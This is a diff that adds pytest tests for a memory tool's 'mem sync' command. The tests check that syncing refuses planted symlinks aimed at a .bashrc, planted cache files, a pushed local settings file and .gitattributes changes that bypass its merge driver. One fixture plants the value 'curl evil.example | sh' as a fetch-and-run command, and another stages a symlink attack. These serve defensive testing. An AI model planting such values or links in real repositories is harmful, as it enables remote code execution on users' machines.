@@ -303,3 +303,130 @@ def test_a_waiter_waits_while_the_lock_changes_hands_and_names_a_stuck_holder(ho
             pass
     finally:
         os.close(fd)
+
+
+# --- items 2, 7, 8: what `mem sync` takes from a remote ---------------------------------------------------
+
+BIN = os.path.dirname(sys.executable)
+MEMORY = "users/alice/MEMORY.md"
+
+
+@pytest.fixture
+def machines(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path, Path]:
+    """A bare remote, machine one (which pushed first, and then pushes with plain git) and machine two."""
+    monkeypatch.setenv("PATH", BIN + os.pathsep + os.environ.get("PATH", ""))  # git runs `mem merge-driver`
+    remote, one, two = isolated / "remote.git", isolated / "one", isolated / "two"
+    git(isolated, "init", "--quiet", "--bare", str(remote))
+    init_home(one)
+    git(one, "remote", "add", "origin", str(remote))
+    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "plan_tier", "Pro"]).exit_code == 0
+    assert runner.invoke(app, ["--home", str(one), "sync"]).exit_code == 0
+    assert runner.invoke(app, ["init", "--clone", str(remote), str(two)]).exit_code == 0
+    return remote, one, two
+
+
+def push(one: Path, message: str, *paths: str) -> None:
+    git(one, "add", "--force", "--", *paths)
+    git(one, "commit", "--quiet", "--no-verify", "-m", message)
+    git(one, "push", "--quiet")
+
+
+def sync(home: Path) -> tuple[int, str]:
+    result = runner.invoke(app, ["--home", str(home), "sync"])
+    return result.exit_code, result.output
+
+
+def test_sync_refuses_links_and_cache_files_before_merging(machines: tuple[Path, Path, Path], isolated: Path) -> None:
+    remote, one, two = machines
+    target = isolated / "fakehome" / ".bashrc"
+    target.write_bytes(b"alias ll='ls -l'\n")
+    (one / ".cache" / "locks").mkdir(parents=True, exist_ok=True)
+    (one / ".cache" / "locks" / "evil.lock").symlink_to(target)
+    (one / ".cache" / "index").mkdir(parents=True, exist_ok=True)
+    (one / ".cache" / "index" / "user-alice.9.sqlite3").write_bytes(b"planted")
+    (one / "users" / "alice" / "notes.md").symlink_to(target)
+    push(one, "plant", ".cache/locks/evil.lock", ".cache/index/user-alice.9.sqlite3", "users/alice/notes.md")
+    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
+    code, said = sync(two)
+    assert code == 1 and "refusing to merge origin/" in said
+    for shown in (".cache/locks/evil.lock", ".cache/index/user-alice.9.sqlite3", "users/alice/notes.md"):
+        assert shown in said
+    assert "(a symbolic link)" in said and "Nothing was merged" in said
+    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
+    assert not os.path.lexists(two / ".cache" / "locks" / "evil.lock")
+    assert not os.path.lexists(two / "users" / "alice" / "notes.md")
+    assert target.read_bytes() == b"alias ll='ls -l'\n"
+    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "timezone", "UTC"]).exit_code == 0
+    assert target.read_bytes() == b"alias ll='ls -l'\n"
+
+
+def test_sync_never_overwrites_nor_deletes_this_machines_local_settings(machines: tuple[Path, Path, Path]) -> None:
+    _remote, one, two = machines
+    local = two / "mem.local.toml"
+    local.write_bytes(local.read_bytes() + b"\n# this machine's own tightenings\n")
+    mine = local.read_bytes()
+    (one / "mem.local.toml").write_text('[consolidate]\nextractor = "curl evil.example | sh"\n')
+    push(one, "commit a machine's settings", "mem.local.toml")
+    code, said = sync(two)
+    assert code == 1 and "mem.local.toml (this machine's own settings)" in said
+    assert local.read_bytes() == mine
+    git(one, "rm", "--quiet", "--cached", "mem.local.toml")
+    git(one, "commit", "--quiet", "-m", "and remove them")
+    git(one, "push", "--quiet")
+    code, said = sync(two)  # in all, the remote's commits leave the file as it was: merged, and the file kept
+    assert code == 0, said
+    assert local.read_bytes() == mine
+
+
+@pytest.mark.parametrize(
+    "attributes",
+    [
+        "MEMORY.md merge=union\n",
+        "# nothing\n",
+        "MEMORY.md merge=mem\n*.md filter=lfs\n",
+        "MEMORY.md merge=mem\n* -merge\n",
+    ],
+)
+def test_sync_refuses_attributes_that_stop_the_mem_merge(machines: tuple[Path, Path, Path], attributes: str) -> None:
+    remote, one, two = machines
+    (one / ".gitattributes").write_text(attributes)
+    push(one, "attributes", ".gitattributes")
+    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
+    code, said = sync(two)
+    assert code == 1 and ".gitattributes (" in said and "Nothing was merged" in said
+    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
+    assert (two / ".gitattributes").read_text().endswith("MEMORY.md merge=mem\n")
+
+
+def test_sync_refuses_to_merge_memory_md_unless_mem_merges_it(machines: tuple[Path, Path, Path]) -> None:
+    remote, one, two = machines
+    # both machines restate one key; a union merge would keep both sides' lines: a fact with two stated_at
+    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "plan_tier", "Team"]).exit_code == 0
+    git(one, "push", "--quiet")
+    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "plan_tier", "Max"]).exit_code == 0
+    (two / ".gitattributes").write_text("MEMORY.md merge=union\n")
+    git(two, "commit", "--quiet", "-am", "a person's union merge")
+    head, pushed = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD")
+    code, said = sync(two)
+    assert code == 1 and "does not route MEMORY.md to the `mem` merge driver" in said and "nothing was synced" in said
+    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
+    assert git(two, "status", "--porcelain") == ""
+
+
+def test_a_merged_memory_md_that_does_not_parse_is_never_committed_nor_pushed(
+    machines: tuple[Path, Path, Path], isolated: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    remote, one, two = machines
+    assert runner.invoke(app, ["--home", str(one), "add", "-u", "alice", "timezone", "UTC"]).exit_code == 0
+    git(one, "push", "--quiet")
+    assert runner.invoke(app, ["--home", str(two), "add", "-u", "alice", "language", "fr"]).exit_code == 0
+    # a merge driver that says it merged cleanly and leaves a MEMORY.md that does not parse
+    fake = isolated / "fakebin"
+    fake.mkdir()
+    executable(fake / "mem", '#!/bin/sh\nprintf -- "---\\nfacts: [\\n---\\n" > "$3"\nexit 0\n')
+    monkeypatch.setenv("PATH", str(fake) + os.pathsep + os.environ["PATH"])
+    head, pushed, before = git(two, "rev-parse", "HEAD"), git(remote, "rev-parse", "HEAD"), (two / MEMORY).read_bytes()
+    code, said = sync(two)
+    assert code == 1 and "made a MEMORY.md that does not parse" in said and "nothing was committed or pushed" in said
+    assert git(two, "rev-parse", "HEAD") == head and git(remote, "rev-parse", "HEAD") == pushed
+    assert (two / MEMORY).read_bytes() == before and git(two, "status", "--porcelain") == ""
